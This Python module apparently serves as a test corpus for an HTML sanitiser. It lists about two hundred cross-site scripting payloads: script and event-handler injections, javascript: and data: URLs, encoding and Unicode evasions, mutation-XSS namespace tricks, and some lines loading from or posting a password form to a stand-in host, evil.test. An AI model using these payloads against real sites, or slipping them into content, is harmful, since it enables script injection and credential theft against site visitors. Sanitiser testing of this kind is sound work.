"""payloads - what somebody writes who wants a script of theirs to run in a reader's browser.

alert() stands for all that a script could do.  Each is one that some
sanitiser or some page fell for, or of that kind.
"""

ELEMENTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script>alert(1)", "<svg><script>alert&#40;1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<frameset onload=alert(1)>", "<applet code=x>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=import href=//evil.test/x>", "<style>@import '//evil.test/x.css';</style>",
    "<form action=//evil.test/><input name=password autofocus onfocus=alert(1)><button>Go</button></form>", "<button formaction=javascript:alert(1)>x",
    "<input onfocus=alert(1) autofocus>", "<isindex type=image src=1 onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>", "<video onloadstart=alert(1) src=x></video>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>", "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<custom-element onclick=alert(1)>x</custom-element>", "<img usemap=#m src=x><map name=m><area href=javascript:alert(1) shape=default></map>",
]

ATTRIBUTES = [
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x oNeRrOr\n=\nalert(1)>", "<img src=x\x0conerror=alert(1)>",
    "<img src='x'onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=`x`onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>", "<a href=&#x6A;avascript&colon;alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=vbscript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>", "<a href='\u00a0javascript:alert(1)'>x</a>", "<a href='javascript\u200b:alert(1)'>x</a>", "<a href=//evil.test\\@good.test/>x</a>",
    "<a href='https://good.test/\" onmouseover=alert(1) x=\"'>x</a>", "<a href=blob:x>x</a>", "<a href=view-source:x>x</a>", "<a href=feed:javascript:alert(1)>x</a>",
    "<a href=x target=_blank ping=//evil.test/>x</a>", "<a href=\"x\" title='\"><img src=x onerror=alert(1)>'>x</a>", "<img src=x alt='`onerror=alert(1)'>",
    "<img src=x alt='\"><script>alert(1)</script>'>", "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>", "<img srcset='x, y onerror=alert(1)'>",
    "<img src=x data-src='javascript:alert(1)'>", "<img data-src='x\" onerror=\"alert(1)'>", "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<p style='background:url(javascript:alert(1))'>x", "<p style='width:expression(alert(1))'>x", "<p style=\"behavior:url(#x);-moz-binding:url(//evil.test/)\">x",
    "<p style='background-image:url(//evil.test/x.png)'>x", "<p style='b\\ackground:u\\72l(//evil.test/)'>x", "<p style='position:fixed;top:0;left:0;width:9999px;height:9999px'>x",
    "<p style='text-align:center\";}</style><script>alert(1)</script>'>x", "<p style='color:red;/*'>x</p><p style='*/background:url(//evil.test/)'>", "<div style='animation-name:x' onanimationstart=alert(1)>x",
    "<table background=javascript:alert(1)><tr><td background=//evil.test/x>x", "<blockquote cite=javascript:alert(1)>x</blockquote>", "<p id=createElement name=cookie>x</p>",
    "<a id=__proto__ href=x>x</a>", "<a href='#\"><img src=x onerror=alert(1)>'>1</a>", "<h2 id='\"><img src=x onerror=alert(1)>'>x</h2>",
    "<code class='language-\"><img src=x onerror=alert(1)>'>x</code>", "<p lang='\" onclick=alert(1)'>x</p>", "<ol type='\" onclick=alert(1)' start='1\" onclick=alert(1)'><li>x</ol>",
]

# Markup that is read in one way the first time and in another the second, or that leaves the namespace in which it was harmless.
NAMESPACES = [
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x />", "<svg><image href=//evil.test/x.png />",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><p><style><img title='</style><img src onerror=alert(1)>'></p></svg>", "<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>", "<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>", "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math alttext='<img src=x onerror=alert(1)>'><mi>x</mi></math>", "<math><annotation><script>alert(1)</script></annotation></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<noscript><img src=x onerror=alert(1)></noscript>", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>", "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>", "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<select><style><img src=x onerror=alert(1)></style></select>",
    "<select><noscript></select><img src=x onerror=alert(1)></noscript>", "<table><a href=javascript:alert(1)>x<tr><td></a>y</table>", "<table><script>alert(1)</script><td>x", "<a><svg><a href=javascript:alert(1)>x</a></svg></a>",
    "<p><svg><p title='<style></p><img src=x onerror=alert(1)></style>'>", "<form id=x></form><button form=x formaction=javascript:alert(1)>y", "<b><style><b></style></b><img src=x onerror=alert(1)></b>", "<a><a href=x><table><td><a onclick=alert(1)>y",
]

COMMENTS = [
    "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!-- <!-- --><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<?php echo '<script>alert(1)</script>'?>", "<!ENTITY x '<script>alert(1)</script>'>&x;",
    "<!doctype html><script>alert(1)</script>", "</><img src=x onerror=alert(1)>", "</ script><img src=x onerror=alert(1)>", "<%<img src=x onerror=alert(1)>%>", "<!--more--><img src=x onerror=alert(1)>", "<!--more \"><img src=x onerror=alert(1)>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\ufeff<script>alert(1)</script>", "<\u0130mg src=x onerror=alert(1)>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<img src=x o\u200bnerror=alert(1)>", "<a href=\"jav\u00adascript:alert(1)\">x</a>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "{{{constructor.constructor('alert(1)')()}}}", "${alert(1)}", "\\u003cscript>alert(1)</script>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "https://good.test/\"><script>alert(1)</script>", "//evil.test/x", "https://good.test/' onclick='alert(1)", "x\r\nX-Header: <script>alert(1)</script>\r\n\r\n<script>alert(1)</script>",
]

# The forms that are turned into others: whoever makes markup can make it wrong.
TURNED = [
    "<iframe src='https://good.test/\"><img src=x onerror=alert(1)>' title='\"><img src=x onerror=alert(1)>'></iframe>", "<iframe title='<img src=x onerror=alert(1)>' src=https://www.youtube.com/embed/abc></iframe>",
    "<video poster='javascript:alert(1)' src='https://good.test/v.mp4'></video>", "<video poster='x\" onerror=\"alert(1)' src='https://good.test/v.mp4' title='\"onclick=alert(1)'></video>", "<object data='https://good.test/\"><script>alert(1)</script>'></object>",
    "<iframe src='https://www.youtube.com/embed/\"><img src=x onerror=alert(1)>'></iframe>", "<img class=emoji alt='<img src=x onerror=alert(1)>' src=x>", "<noscript><img src='x\" onerror=\"alert(1)'></noscript>",
    "<p>x<sup><a href='#fn\"><img src=x onerror=alert(1)>' id='r\"><img src=x onerror=alert(1)>'>1</a></sup></p><ol class=footnotes><li id='fn\"><img src=x onerror=alert(1)>'>y <a href='#r\"><img src=x onerror=alert(1)>'>b</a></li></ol>",
    "<p>x<sup><a href=#fn1 id=r1><img src=x onerror=alert(1)>1</a></sup></p><h2>Notes</h2><ol class=footnotes><li id=fn1><script>alert(1)</script>y <a href=#r1 onclick=alert(1)>b</a></li></ol>",
    "<div class=footnotes><h2><img src=x onerror=alert(1)>Notes &lt;script&gt;alert(1)&lt;/script&gt;</h2><ol><li id=f>y <a href=#g>b</a></li></ol></div><p id=g>x<a href=#f>1</a>", "<span id=more-1 onclick=alert(1)></span>x<a name=more onclick=alert(1)></a>",
    "<blockquote class=twitter-tweet cite='javascript:alert(1)'><p onclick=alert(1)>x</p><a href=javascript:alert(1)>y</a></blockquote>", "<amp-img src='x' onerror=alert(1)></amp-img><amp-iframe src=javascript:alert(1)></amp-iframe>",
    "<picture><source srcset='javascript:alert(1)' onerror=alert(1)><img src=x onerror=alert(1)></picture>", "<figure onclick=alert(1)><img src=x data-lazy-src='javascript:alert(1)'><figcaption onclick=alert(1)>y</figcaption></figure>",
]

ALL = ELEMENTS + ATTRIBUTES + NAMESPACES + COMMENTS + TURNED
